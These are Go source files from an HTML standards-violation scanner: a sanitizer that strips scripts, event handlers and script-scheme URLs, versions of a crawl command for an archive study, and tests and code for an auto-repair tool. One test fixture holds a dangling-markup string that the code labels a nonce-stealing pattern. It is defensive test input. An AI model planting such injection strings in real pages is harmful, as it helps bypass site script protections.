	res, err := htmlparse.ParseFragmentReuse([]byte(input), "div")
	if err != nil {
		return "", err
	}
	s.clean(res.Doc)
	var b strings.Builder
	for c := res.Doc.FirstChild; c != nil; c = c.NextSibling {
		if err := htmlparse.Render(&b, c); err != nil {
			return "", err
		}
	}
	return b.String(), nil
}

func (s *Sanitizer) clean(n *htmlparse.Node) {
	for c := n.FirstChild; c != nil; {
		next := c.NextSibling
		switch c.Type {
		case htmlparse.CommentNode, htmlparse.DoctypeNode:
			n.RemoveChild(c)
		case htmlparse.ElementNode:
			if !s.policy.AllowedTags[strings.ToLower(c.Data)] {
				s.removeElement(n, c)
			} else {
				c.Attr = s.cleanAttrs(c.Attr)
				s.clean(c)
			}
		default:
			// text survives
		}
		c = next
	}
}

// removeElement drops the element, optionally hoisting its children.
func (s *Sanitizer) removeElement(parent, c *htmlparse.Node) {
	keep := s.policy.KeepContent
	switch strings.ToLower(c.Data) {
	case "script", "style", "noscript", "template", "iframe", "object",
		"embed", "textarea", "title", "xmp":
		keep = false // never resurrect executable or raw-text content
	}
	if keep {
		// Clean the subtree first, then hoist the (already clean) children
		// into the parent, in place of the removed element.
		s.clean(c)
		for gc := c.FirstChild; gc != nil; gc = c.FirstChild {
			c.RemoveChild(gc)
			parent.InsertBefore(gc, c)
		}
	}
	parent.RemoveChild(c)
}

func (s *Sanitizer) cleanAttrs(attrs []htmlparse.Attribute) []htmlparse.Attribute {
	out := attrs[:0]
	for _, a := range attrs {
		name := strings.ToLower(a.Name)
		if strings.HasPrefix(name, "on") || !s.policy.AllowedAttrs[name] {
			continue
		}
		if isScriptURL(name, a.Value) {
			continue
		}
		out = append(out, a)
	}
	return out
}

// isScriptURL blocks javascript:/vbscript:/data: URLs in URL attributes.
func isScriptURL(name, value string) bool {
	switch name {
	case "href", "src", "action", "formaction":
	default:
		return false
	}
	v := strings.ToLower(strings.TrimLeft(value, " \t\r\n\f"))
	v = strings.Map(func(r rune) rune {
		if r < 0x20 {
			return -1 // strip control characters used to split schemes
		}
		return r
	}, v)
	return strings.HasPrefix(v, "javascript:") ||
		strings.HasPrefix(v, "vbscript:") ||
		strings.HasPrefix(v, "data:")
}
