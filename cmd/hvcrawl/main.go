// Command hvcrawl runs the longitudinal study end to end: derive the
// dataset from Tranco-style lists (the paper's top-50K intersection rule),
// query every snapshot for every domain, fetch and check all pages, and
// persist the per-domain results plus crawl statistics.
//
// The archive comes either from a ccserve instance (-server, the network
// path) or is generated in-process (the fast path).
//
// With -metrics the process serves live observability endpoints while the
// crawl runs: Prometheus-style counters and stage latency histograms on
// /metrics, and the full pprof suite on /debug/pprof/. At the end of the
// run a summary (pages/sec, per-stage p50/p95/p99, error rates) is logged
// and embedded in the stats file.
//
// Usage:
//
//	hvcrawl -out results.jsonl -stats stats.json [-server http://...]
//	        [-domains 2400 -pages 20 -seed 22] [-workers N] [-snapshots 8]
//	        [-metrics :9090] [-retries N]
package main

import (
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"log"
	"os"
	"os/signal"
	"syscall"
	"time"

	"github.com/hvscan/hvscan/internal/commoncrawl"
	"github.com/hvscan/hvscan/internal/core"
	"github.com/hvscan/hvscan/internal/corpus"
	"github.com/hvscan/hvscan/internal/crawler"
	"github.com/hvscan/hvscan/internal/obs"
	"github.com/hvscan/hvscan/internal/store"
	"github.com/hvscan/hvscan/internal/tranco"
)

// options collects the command-line configuration.
type options struct {
	server    string
	out       string
	statsOut  string
	metrics   string
	domains   int
	pages     int
	seed      int64
	workers   int
	snapshots int
	lists     int
	cutoff    int
	retries   int
}

// statsFile is the persisted shape of -stats: the per-snapshot Table 2
// rows plus the whole-run observability summary. hvreport accepts both
// this and the bare snapshot array older runs wrote.
type statsFile struct {
	Snapshots []store.CrawlStats `json:"snapshots"`
	Summary   crawler.RunSummary `json:"summary"`
}

func main() {
	var o options
	flag.StringVar(&o.server, "server", "", "ccserve base URL (default: in-process synthetic archive)")
	flag.StringVar(&o.out, "out", "results.jsonl", "result store output path")
	flag.StringVar(&o.statsOut, "stats", "stats.json", "crawl statistics output path")
	flag.StringVar(&o.metrics, "metrics", "", "serve /metrics and /debug/pprof/ on this address (e.g. :9090; empty = off)")
	flag.IntVar(&o.domains, "domains", 2400, "synthetic: domain universe size")
	flag.IntVar(&o.pages, "pages", 20, "pages per domain to analyze (paper: 100)")
	flag.Int64Var(&o.seed, "seed", 22, "synthetic: generator seed")
	flag.IntVar(&o.workers, "workers", 0, "concurrent domain workers (default: NumCPU)")
	flag.IntVar(&o.snapshots, "snapshots", 8, "number of snapshots to crawl (oldest first)")
	flag.IntVar(&o.lists, "lists", 5, "Tranco-style lists for the dataset intersection")
	flag.IntVar(&o.cutoff, "cutoff", 0, "rank cutoff for the intersection (default: universe size)")
	flag.IntVar(&o.retries, "retries", 0, "retries per index query / record fetch (0 = default of 2, -1 = disabled)")
	flag.Parse()
	if err := run(o); err != nil {
		fmt.Fprintln(os.Stderr, "hvcrawl:", err)
		os.Exit(1)
	}
}

func run(o options) error {
	g := corpus.New(corpus.Config{Seed: o.seed, Domains: o.domains, MaxPages: o.pages})

	// Dataset derivation (paper §4.1): intersect the top cutoff of every
	// list, order by average rank.
	if o.cutoff <= 0 {
		o.cutoff = o.domains
	}
	stable := tranco.IntersectTop(g.TrancoLists(o.lists), o.cutoff)
	dataset := make([]string, len(stable))
	for i, e := range stable {
		dataset[i] = e.Domain
	}
	log.Printf("dataset: %d domains (intersection of %d lists at rank <= %d, avg rank %.0f)",
		len(dataset), o.lists, o.cutoff, tranco.AverageRank(stable))

	// One registry carries every layer's series: archive round trips,
	// pipeline stages, per-rule hits, store writes.
	reg := obs.NewRegistry()

	var archive commoncrawl.Archive
	if o.server != "" {
		archive = commoncrawl.NewClient(o.server)
		log.Printf("archive: %s", o.server)
	} else {
		archive = commoncrawl.NewSynthetic(g)
		log.Printf("archive: in-process synthetic (seed=%d)", o.seed)
	}
	archive = commoncrawl.Instrument(archive, reg)

	crawls := archive.Crawls()
	if o.snapshots > 0 && o.snapshots < len(crawls) {
		crawls = crawls[:o.snapshots]
	}

	if o.metrics != "" {
		srv, err := obs.StartServer(o.metrics, reg)
		if err != nil {
			return err
		}
		defer srv.Close()
		log.Printf("metrics: http://%s/metrics (pprof on /debug/pprof/)", srv.Addr)
	}

	st := store.New().Instrument(reg)
	checker := core.NewChecker().Instrument(reg)
	pipe := crawler.New(archive, checker, st, crawler.Config{
		Workers:        o.workers,
		PagesPerDomain: o.pages,
		Retries:        o.retries,
		Registry:       reg,
	})

	// Ctrl-C finishes the in-flight domains, saves what was measured and
	// exits cleanly — a multi-day crawl must never lose its progress.
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()

	var allStats []store.CrawlStats
	runStart := time.Now()
	for _, crawl := range crawls {
		start := time.Now()
		stats, err := pipe.RunSnapshot(ctx, crawl, dataset)
		if err != nil {
			if ctx.Err() != nil {
				log.Printf("interrupted during %s; saving partial results", crawl)
				break
			}
			return err
		}
		allStats = append(allStats, stats)
		elapsed := time.Since(start)
		ppm := float64(stats.PagesAnalyzed) / elapsed.Minutes()
		log.Printf("%s: %d/%d domains analyzed, %d pages (avg %.1f/domain) in %s (%.0f pages/min)",
			crawl, stats.Analyzed, stats.Found, stats.PagesAnalyzed, stats.AvgPages(),
			elapsed.Round(time.Millisecond), ppm)
	}
	summary := pipe.Summary(time.Since(runStart))
	log.Print(summary)

	if err := st.Save(o.out); err != nil {
		return err
	}
	log.Printf("results: %s (%d domain records)", o.out, st.Len())

	f, err := os.Create(o.statsOut)
	if err != nil {
		return err
	}
	enc := json.NewEncoder(f)
	enc.SetIndent("", "  ")
	if err := enc.Encode(statsFile{Snapshots: allStats, Summary: summary}); err != nil {
		f.Close()
		return err
	}
	if err := f.Close(); err != nil {
		return err
	}
	log.Printf("stats: %s", o.statsOut)
	return nil
}
