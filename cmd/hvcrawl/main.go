// Command hvcrawl runs the longitudinal study end to end: derive the
// dataset from Tranco-style lists (the paper's top-50K intersection rule),
// query every snapshot for every domain, fetch and check all pages, and
// persist the per-domain results plus crawl statistics.
//
// The archive comes either from a ccserve instance (-server, the network
// path) or is generated in-process (the fast path).
//
// Usage:
//
//	hvcrawl -out results.jsonl -stats stats.json [-server http://...]
//	        [-domains 2400 -pages 20 -seed 22] [-workers N] [-snapshots 8]
package main

import (
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"log"
	"os"
	"os/signal"
	"syscall"
	"time"

	"github.com/hvscan/hvscan/internal/commoncrawl"
	"github.com/hvscan/hvscan/internal/core"
	"github.com/hvscan/hvscan/internal/corpus"
	"github.com/hvscan/hvscan/internal/crawler"
	"github.com/hvscan/hvscan/internal/store"
	"github.com/hvscan/hvscan/internal/tranco"
)

func main() {
	var (
		server    = flag.String("server", "", "ccserve base URL (default: in-process synthetic archive)")
		out       = flag.String("out", "results.jsonl", "result store output path")
		statsOut  = flag.String("stats", "stats.json", "crawl statistics output path")
		domains   = flag.Int("domains", 2400, "synthetic: domain universe size")
		pages     = flag.Int("pages", 20, "pages per domain to analyze (paper: 100)")
		seed      = flag.Int64("seed", 22, "synthetic: generator seed")
		workers   = flag.Int("workers", 0, "concurrent domain workers (default: NumCPU)")
		snapshots = flag.Int("snapshots", 8, "number of snapshots to crawl (oldest first)")
		lists     = flag.Int("lists", 5, "Tranco-style lists for the dataset intersection")
		cutoff    = flag.Int("cutoff", 0, "rank cutoff for the intersection (default: universe size)")
	)
	flag.Parse()
	if err := run(*server, *out, *statsOut, *domains, *pages, *seed, *workers, *snapshots, *lists, *cutoff); err != nil {
		fmt.Fprintln(os.Stderr, "hvcrawl:", err)
		os.Exit(1)
	}
}

func run(server, out, statsOut string, domains, pages int, seed int64, workers, snapshots, lists, cutoff int) error {
	g := corpus.New(corpus.Config{Seed: seed, Domains: domains, MaxPages: pages})

	// Dataset derivation (paper §4.1): intersect the top cutoff of every
	// list, order by average rank.
	if cutoff <= 0 {
		cutoff = domains
	}
	stable := tranco.IntersectTop(g.TrancoLists(lists), cutoff)
	dataset := make([]string, len(stable))
	for i, e := range stable {
		dataset[i] = e.Domain
	}
	log.Printf("dataset: %d domains (intersection of %d lists at rank <= %d, avg rank %.0f)",
		len(dataset), lists, cutoff, tranco.AverageRank(stable))

	var archive commoncrawl.Archive
	if server != "" {
		archive = commoncrawl.NewClient(server)
		log.Printf("archive: %s", server)
	} else {
		archive = commoncrawl.NewSynthetic(g)
		log.Printf("archive: in-process synthetic (seed=%d)", seed)
	}

	crawls := archive.Crawls()
	if snapshots > 0 && snapshots < len(crawls) {
		crawls = crawls[:snapshots]
	}

	st := store.New()
	pipe := crawler.New(archive, core.NewChecker(), st, crawler.Config{
		Workers:        workers,
		PagesPerDomain: pages,
	})

	// Ctrl-C finishes the in-flight domains, saves what was measured and
	// exits cleanly — a multi-day crawl must never lose its progress.
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()

	var allStats []store.CrawlStats
	for _, crawl := range crawls {
		start := time.Now()
		stats, err := pipe.RunSnapshot(ctx, crawl, dataset)
		if err != nil {
			if ctx.Err() != nil {
				log.Printf("interrupted during %s; saving partial results", crawl)
				break
			}
			return err
		}
		allStats = append(allStats, stats)
		elapsed := time.Since(start)
		ppm := float64(stats.PagesAnalyzed) / elapsed.Minutes()
		log.Printf("%s: %d/%d domains analyzed, %d pages (avg %.1f/domain) in %s (%.0f pages/min)",
			crawl, stats.Analyzed, stats.Found, stats.PagesAnalyzed, stats.AvgPages(),
			elapsed.Round(time.Millisecond), ppm)
	}

	if err := st.Save(out); err != nil {
		return err
	}
	log.Printf("results: %s (%d domain records)", out, st.Len())

	f, err := os.Create(statsOut)
	if err != nil {
		return err
	}
	enc := json.NewEncoder(f)
	enc.SetIndent("", "  ")
	if err := enc.Encode(allStats); err != nil {
		f.Close()
		return err
	}
	if err := f.Close(); err != nil {
		return err
	}
	log.Printf("stats: %s", statsOut)
	return nil
}
