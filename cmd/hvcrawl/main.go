// Command hvcrawl runs the longitudinal study end to end: derive the
// dataset from Tranco-style lists (the paper's top-50K intersection rule),
// query every snapshot for every domain, fetch and check all pages, and
// persist the per-domain results plus crawl statistics.
//
// The archive comes either from a ccserve instance (-server, the network
// path) or is generated in-process (the fast path).
//
// With -metrics the process serves live observability endpoints while the
// crawl runs: Prometheus-style counters and stage latency histograms on
// /metrics, and the full pprof suite on /debug/pprof/. At the end of the
// run a summary (pages/sec, per-stage p50/p95/p99, error rates) is logged
// and embedded in the stats file.
//
// The crawl is crash-safe: every finished (crawl, domain) pair is
// appended to a resume journal (-journal, default <out>.journal), and
// -resume replays it on restart so completed work is never repeated.
// Failed domains consume an error budget (-max-domain-failures) instead
// of aborting the run; partial results are saved even when the budget
// is exhausted.
//
// Usage:
//
//	hvcrawl -out results.jsonl -stats stats.json [-server http://...]
//	        [-domains 2400 -pages 20 -seed 22] [-workers N] [-snapshots 8]
//	        [-metrics :9090] [-retries N] [-resume] [-journal path]
//	        [-max-domain-failures N] [-stream] [-fix] [-cache-mb 64]
//
// With -fix every analyzed page is additionally run through the
// validated repair engine (internal/autofix); per-snapshot repair
// outcomes and machine-repairability rates are aggregated into the
// stats file and rendered by `hvreport -experiment fix`.
package main

import (
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"log"
	"os"
	"os/signal"
	"syscall"
	"time"

	"github.com/hvscan/hvscan/internal/autofix"
	"github.com/hvscan/hvscan/internal/commoncrawl"
	"github.com/hvscan/hvscan/internal/core"
	"github.com/hvscan/hvscan/internal/corpus"
	"github.com/hvscan/hvscan/internal/crawler"
	"github.com/hvscan/hvscan/internal/htmlparse"
	"github.com/hvscan/hvscan/internal/obs"
	"github.com/hvscan/hvscan/internal/store"
	"github.com/hvscan/hvscan/internal/tranco"
)

// options collects the command-line configuration.
type options struct {
	server    string
	out       string
	statsOut  string
	metrics   string
	domains   int
	pages     int
	seed      int64
	workers   int
	snapshots int
	lists     int
	cutoff    int
	retries   int
	maxFail   int
	journal   string
	resume    bool
	stream    bool
	fix       bool
	cacheMB   int
}

// statsFile is the persisted shape of -stats: the per-snapshot Table 2
// rows plus the whole-run observability summary. hvreport accepts both
// this and the bare snapshot array older runs wrote.
type statsFile struct {
	Snapshots []store.CrawlStats `json:"snapshots"`
	Summary   crawler.RunSummary `json:"summary"`
}

func main() {
	var o options
	flag.StringVar(&o.server, "server", "", "ccserve base URL (default: in-process synthetic archive)")
	flag.StringVar(&o.out, "out", "results.jsonl", "result store output path")
	flag.StringVar(&o.statsOut, "stats", "stats.json", "crawl statistics output path")
	flag.StringVar(&o.metrics, "metrics", "", "serve /metrics and /debug/pprof/ on this address (e.g. :9090; empty = off)")
	flag.IntVar(&o.domains, "domains", 2400, "synthetic: domain universe size")
	flag.IntVar(&o.pages, "pages", 20, "pages per domain to analyze (paper: 100)")
	flag.Int64Var(&o.seed, "seed", 22, "synthetic: generator seed")
	flag.IntVar(&o.workers, "workers", 0, "concurrent domain workers (default: NumCPU)")
	flag.IntVar(&o.snapshots, "snapshots", 8, "number of snapshots to crawl (oldest first)")
	flag.IntVar(&o.lists, "lists", 5, "Tranco-style lists for the dataset intersection")
	flag.IntVar(&o.cutoff, "cutoff", 0, "rank cutoff for the intersection (default: universe size)")
	flag.IntVar(&o.retries, "retries", 0, "retries per index query / record fetch (0 = default of 2, -1 = disabled)")
	flag.IntVar(&o.maxFail, "max-domain-failures", 0, "error budget: failed domains tolerated per snapshot (0 = default of 10%, -1 = unlimited)")
	flag.StringVar(&o.journal, "journal", "", "resume journal path (default: <out>.journal)")
	flag.BoolVar(&o.resume, "resume", false, "replay the journal and skip already-completed (crawl, domain) pairs")
	flag.BoolVar(&o.stream, "stream", false, "check pages with the constant-memory streaming rules only (skips tree-required rules)")
	flag.BoolVar(&o.fix, "fix", false, "measure machine repairability: run every analyzed page through the validated repair engine and aggregate outcomes per snapshot")
	flag.IntVar(&o.cacheMB, "cache-mb", 0, "in-memory archive read cache budget in MiB (0 = off)")
	flag.Parse()
	if err := run(o); err != nil {
		fmt.Fprintln(os.Stderr, "hvcrawl:", err)
		os.Exit(1)
	}
}

func run(o options) error {
	g := corpus.New(corpus.Config{Seed: o.seed, Domains: o.domains, MaxPages: o.pages})

	// Dataset derivation (paper §4.1): intersect the top cutoff of every
	// list, order by average rank.
	if o.cutoff <= 0 {
		o.cutoff = o.domains
	}
	stable := tranco.IntersectTop(g.TrancoLists(o.lists), o.cutoff)
	dataset := make([]string, len(stable))
	for i, e := range stable {
		dataset[i] = e.Domain
	}
	log.Printf("dataset: %d domains (intersection of %d lists at rank <= %d, avg rank %.0f)",
		len(dataset), o.lists, o.cutoff, tranco.AverageRank(stable))

	// One registry carries every layer's series: archive round trips,
	// pipeline stages, per-rule hits, store writes.
	reg := obs.NewRegistry()
	htmlparse.Instrument(reg)

	var archive commoncrawl.Archive
	if o.server != "" {
		archive = commoncrawl.NewClient(o.server)
		log.Printf("archive: %s", o.server)
	} else {
		archive = commoncrawl.NewSynthetic(g)
		log.Printf("archive: in-process synthetic (seed=%d)", o.seed)
	}
	archive = commoncrawl.Instrument(archive, reg)
	if o.cacheMB > 0 {
		// The cache sits above the instrumented inner archive, so the
		// commoncrawl_reads_total counters keep measuring true backend
		// traffic while the cache_* series measure hit rates.
		archive = commoncrawl.NewTiered(archive, int64(o.cacheMB)<<20).Instrument(reg)
		log.Printf("archive cache: %d MiB budget", o.cacheMB)
	}

	crawls := archive.Crawls()
	if len(crawls) == 0 {
		// The Archive interface can't surface a listing error, so an
		// unreachable -server shows up here; zero snapshots silently
		// "succeeding" would mask a dead archive.
		return fmt.Errorf("archive lists no crawls (is %s reachable?)", o.server)
	}
	if o.snapshots > 0 && o.snapshots < len(crawls) {
		crawls = crawls[:o.snapshots]
	}

	if o.metrics != "" {
		srv, err := obs.StartServer(o.metrics, reg)
		if err != nil {
			return err
		}
		defer srv.Close()
		log.Printf("metrics: http://%s/metrics (pprof on /debug/pprof/)", srv.Addr)
	}

	// The resume journal is always maintained (crash safety costs one
	// appended line per domain); -resume decides whether an existing one
	// is replayed or cleared.
	journalPath := o.journal
	if journalPath == "" {
		journalPath = o.out + ".journal"
	}
	if !o.resume {
		if err := os.Remove(journalPath); err != nil && !os.IsNotExist(err) {
			return fmt.Errorf("clearing stale journal: %w", err)
		}
	}
	jr, warn, err := store.OpenJournal(journalPath)
	if err != nil {
		return err
	}
	defer jr.Close()
	if warn != "" {
		log.Printf("warning: %s", warn)
	}
	if o.resume && jr.Len() > 0 {
		log.Printf("resume: journal %s records %d completed (crawl, domain) pairs", journalPath, jr.Len())
	}

	st := store.New().Instrument(reg)
	checker := core.NewChecker()
	if o.stream {
		checker = core.NewStreamingChecker()
		log.Print("checker: streaming rules only (constant-memory path)")
	}
	checker = checker.Instrument(reg)
	if o.fix {
		autofix.Instrument(reg)
		log.Print("fix: measuring machine repairability of every analyzed page")
	}
	pipe := crawler.New(archive, checker, st, crawler.Config{
		Workers:           o.workers,
		PagesPerDomain:    o.pages,
		Retries:           o.retries,
		MaxDomainFailures: o.maxFail,
		Fix:               o.fix,
		Journal:           jr,
		Registry:          reg,
	})

	// Ctrl-C finishes the in-flight domains, saves what was measured and
	// exits cleanly — a multi-day crawl must never lose its progress.
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()

	var allStats []store.CrawlStats
	var runErr error
	runStart := time.Now()
	for _, crawl := range crawls {
		start := time.Now()
		stats, err := pipe.RunSnapshot(ctx, crawl, dataset)
		// Whatever happened, the stats describe real completed work:
		// keep them so partial results survive budget exhaustion and
		// interrupts alike.
		allStats = append(allStats, stats)
		if err != nil {
			if ctx.Err() != nil {
				log.Printf("interrupted during %s; saving partial results (restart with -resume to continue)", crawl)
				break
			}
			log.Printf("%s: snapshot failed: %v", crawl, err)
			runErr = err
			break
		}
		elapsed := time.Since(start)
		ppm := float64(stats.PagesAnalyzed) / elapsed.Minutes()
		extra := ""
		if stats.DomainsFailed > 0 {
			extra = fmt.Sprintf(", %d domains failed %v", stats.DomainsFailed, stats.FailedByClass)
		}
		if stats.DomainsResumed > 0 {
			extra += fmt.Sprintf(", %d resumed from journal", stats.DomainsResumed)
		}
		if rate, violating, ok := stats.Repairability(); ok {
			extra += fmt.Sprintf(", repairability %.1f%% of %d violating pages", 100*rate, violating)
		}
		log.Printf("%s: %d/%d domains analyzed, %d pages (avg %.1f/domain) in %s (%.0f pages/min)%s",
			crawl, stats.Analyzed, stats.Found, stats.PagesAnalyzed, stats.AvgPages(),
			elapsed.Round(time.Millisecond), ppm, extra)
	}
	summary := pipe.Summary(time.Since(runStart))
	log.Print(summary)

	if err := st.Save(o.out); err != nil {
		return err
	}
	log.Printf("results: %s (%d domain records)", o.out, st.Len())

	f, err := os.Create(o.statsOut)
	if err != nil {
		return err
	}
	enc := json.NewEncoder(f)
	enc.SetIndent("", "  ")
	if err := enc.Encode(statsFile{Snapshots: allStats, Summary: summary}); err != nil {
		f.Close()
		return err
	}
	if err := f.Close(); err != nil {
		return err
	}
	log.Printf("stats: %s", o.statsOut)
	// Results and stats are on disk; now surface the failure (if any) in
	// the exit code.
	return runErr
}
