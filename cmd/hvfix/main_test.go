package main

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func runFix(t *testing.T, stdin string, args ...string) (code int, stdout, stderr string) {
	t.Helper()
	var out, errb bytes.Buffer
	code = run(args, strings.NewReader(stdin), &out, &errb)
	return code, out.String(), errb.String()
}

func TestFixStdin(t *testing.T) {
	code, out, errb := runFix(t, `<!DOCTYPE html><html><head><title>t</title></head><body><img/src="x"/alt="y"></body></html>`)
	if code != 0 {
		t.Fatalf("exit = %d (%s)", code, errb)
	}
	if !strings.Contains(out, `<img src="x" alt="y">`) {
		t.Fatalf("out = %q", out)
	}
	if !strings.Contains(errb, "FB1") {
		t.Fatalf("fix summary missing: %q", errb)
	}
}

func TestFixInPlace(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "page.html")
	os.WriteFile(path, []byte(`<!DOCTYPE html><html><head><title>t</title></head><body><div id=a id=b>x</div></body></html>`), 0o644)
	code, out, _ := runFix(t, "", "-w", path)
	if code != 0 || out != "" {
		t.Fatalf("code=%d out=%q", code, out)
	}
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(data), `id="b"`) {
		t.Fatalf("duplicate attribute survived: %s", data)
	}
}

func TestFixSummaryOnly(t *testing.T) {
	code, out, errb := runFix(t, `<body><a href="x"title="t">l</a>`, "-summary")
	if code != 0 || out != "" {
		t.Fatalf("code=%d out=%q", code, out)
	}
	if !strings.Contains(errb, "fixed") {
		t.Fatalf("summary = %q", errb)
	}
}

func TestFixMissingFile(t *testing.T) {
	code, _, errb := runFix(t, "", filepath.Join(t.TempDir(), "nope.html"))
	if code != 2 || !strings.Contains(errb, "nope.html") {
		t.Fatalf("code=%d err=%q", code, errb)
	}
}
