package main

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func runFix(t *testing.T, stdin string, args ...string) (code int, stdout, stderr string) {
	t.Helper()
	var out, errb bytes.Buffer
	code = run(args, strings.NewReader(stdin), &out, &errb)
	return code, out.String(), errb.String()
}

func writeTemp(t *testing.T, name, content string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), name)
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

const (
	cleanDoc = `<!DOCTYPE html><html><head><title>t</title></head><body><p>x</p></body></html>`
	fixable  = `<!DOCTYPE html><html><head><title>t</title></head><body><a href="/x"title="t">x</a></body></html>`
	// partialDoc carries a nonce-stealing DE3_2 pattern no strategy
	// covers alongside a fixable FB2.
	partialDoc = `<!DOCTYPE html><html><head><title>t</title></head><body><a href="/x"title="t">x</a><img src="/i.png" alt="x<script n"></body></html>`
	// unfixableDoc: a manifest URL on <html> precedes any base
	// placement, so DM2_3 cannot be satisfied.
	unfixableDoc = `<!DOCTYPE html><html manifest="app.appcache"><head><base href="/b/"><title>t</title></head><body><p>x</p></body></html>`
)

// TestExitCodes pins the CLI contract: 0 for clean input, 0 for a
// successful fix (with a report on stderr), 1 when violations remain —
// partial or unfixable — and 2 for operational errors (separately below).
func TestExitCodes(t *testing.T) {
	cases := []struct {
		name, doc  string
		wantCode   int
		wantStderr string
	}{
		{"clean", cleanDoc, 0, "clean"},
		{"fixed", fixable, 0, "fixed"},
		{"partial", partialDoc, 1, "violations remain"},
		{"unfixable", unfixableDoc, 1, "unfixable"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			code, _, stderr := runFix(t, tc.doc)
			if code != tc.wantCode {
				t.Fatalf("exit = %d, want %d\nstderr: %s", code, tc.wantCode, stderr)
			}
			if !strings.Contains(stderr, tc.wantStderr) {
				t.Fatalf("stderr missing %q:\n%s", tc.wantStderr, stderr)
			}
		})
	}
}

func TestFixStdin(t *testing.T) {
	code, out, errb := runFix(t, `<!DOCTYPE html><html><head><title>t</title></head><body><img/src="x"/alt="y"></body></html>`)
	if code != 0 {
		t.Fatalf("exit = %d (%s)", code, errb)
	}
	if !strings.Contains(out, `<img src="x" alt="y">`) {
		t.Fatalf("out = %q", out)
	}
	if !strings.Contains(errb, "FB1") {
		t.Fatalf("fix summary missing: %q", errb)
	}
}

// TestUnfixableEmitsOriginal: an unfixable document is passed through
// byte for byte — hvfix never emits unverified output.
func TestUnfixableEmitsOriginal(t *testing.T) {
	code, stdout, _ := runFix(t, unfixableDoc)
	if code != 1 {
		t.Fatalf("exit = %d, want 1", code)
	}
	if stdout != unfixableDoc {
		t.Fatalf("unfixable output diverged from the input:\n%s", stdout)
	}
}

func TestFixInPlace(t *testing.T) {
	path := writeTemp(t, "page.html", `<!DOCTYPE html><html><head><title>t</title></head><body><div id=a id=b>x</div></body></html>`)
	code, out, _ := runFix(t, "", "-w", path)
	if code != 0 || out != "" {
		t.Fatalf("code=%d out=%q", code, out)
	}
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(data), `id="b"`) {
		t.Fatalf("duplicate attribute survived: %s", data)
	}
}

func TestFixQuiet(t *testing.T) {
	code, out, errb := runFix(t, fixable, "-q")
	if code != 0 || out != "" {
		t.Fatalf("code=%d out=%q", code, out)
	}
	if !strings.Contains(errb, "fixed") {
		t.Fatalf("summary = %q", errb)
	}
}

func TestFixMissingFile(t *testing.T) {
	code, _, errb := runFix(t, "", filepath.Join(t.TempDir(), "nope.html"))
	if code != 2 || !strings.Contains(errb, "nope.html") {
		t.Fatalf("code=%d err=%q", code, errb)
	}
}

// TestMixedInputsWorstExit: with several files the worst outcome wins.
func TestMixedInputsWorstExit(t *testing.T) {
	a := writeTemp(t, "a.html", cleanDoc)
	b := writeTemp(t, "b.html", unfixableDoc)
	code, _, _ := runFix(t, "", "-q", a, b)
	if code != 1 {
		t.Fatalf("exit = %d, want 1", code)
	}
}

func TestCorpusMode(t *testing.T) {
	code, stdout, stderr := runFix(t, "", "-corpus", "../../internal/autofix/testdata", "-summary", "-")
	if code != 0 {
		t.Fatalf("corpus run failed (%d):\n%s", code, stderr)
	}
	for _, want := range []string{"fix corpus:", "## Fix corpus", "| Outcome | Cases |"} {
		if !strings.Contains(stdout, want) {
			t.Fatalf("corpus output missing %q:\n%s", want, stdout)
		}
	}
}

func TestCorpusModeMinGate(t *testing.T) {
	dir := t.TempDir()
	fixture := "#data\n" + cleanDoc + "\n#outcome\nclean\n#applied\n#unfixable\n#remaining\n#output\n" + cleanDoc + "\n"
	if err := os.WriteFile(filepath.Join(dir, "one.fix"), []byte(fixture), 0o644); err != nil {
		t.Fatal(err)
	}
	code, _, stderr := runFix(t, "", "-corpus", dir, "-min", "2")
	if code != 1 {
		t.Fatalf("exit = %d, want 1 (min gate)\n%s", code, stderr)
	}
	if !strings.Contains(stderr, "want at least 2") {
		t.Fatalf("stderr missing min-gate message:\n%s", stderr)
	}
}
