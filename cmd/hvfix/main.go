// Command hvfix applies the automatic repairs of paper §4.4 to HTML
// documents: syntax normalization (FB1/FB2), duplicate-attribute removal
// (DM3), and meta/base relocation (DM1/DM2).
//
// Usage:
//
//	hvfix [-w] [file ...]
//
// Without -w the repaired document goes to standard output; with -w files
// are rewritten in place. Applied fixes are listed on standard error.
package main

import (
	"flag"
	"fmt"
	"io"
	"os"

	"github.com/hvscan/hvscan/internal/autofix"
)

func main() {
	os.Exit(run(os.Args[1:], os.Stdin, os.Stdout, os.Stderr))
}

func run(args []string, stdin io.Reader, stdout, stderr io.Writer) int {
	fs := flag.NewFlagSet("hvfix", flag.ContinueOnError)
	fs.SetOutput(stderr)
	var (
		write = fs.Bool("w", false, "rewrite files in place instead of printing")
		diff  = fs.Bool("summary", false, "only print the fix summary, not the document")
	)
	if err := fs.Parse(args); err != nil {
		return 2
	}
	inputs := fs.Args()
	if len(inputs) == 0 {
		data, err := io.ReadAll(stdin)
		if err != nil {
			fmt.Fprintf(stderr, "hvfix: stdin: %v\n", err)
			return 2
		}
		return fixOne("<stdin>", data, false, *diff, stdout, stderr)
	}
	exit := 0
	for _, path := range inputs {
		data, err := os.ReadFile(path)
		if err != nil {
			fmt.Fprintf(stderr, "hvfix: %v\n", err)
			exit = 2
			continue
		}
		if c := fixOne(path, data, *write, *diff, stdout, stderr); c > exit {
			exit = c
		}
	}
	return exit
}

func fixOne(name string, data []byte, write, summaryOnly bool, stdout, stderr io.Writer) int {
	res, err := autofix.Repair(data)
	if err != nil {
		fmt.Fprintf(stderr, "hvfix: %s: %v\n", name, err)
		return 2
	}
	for _, f := range res.Applied {
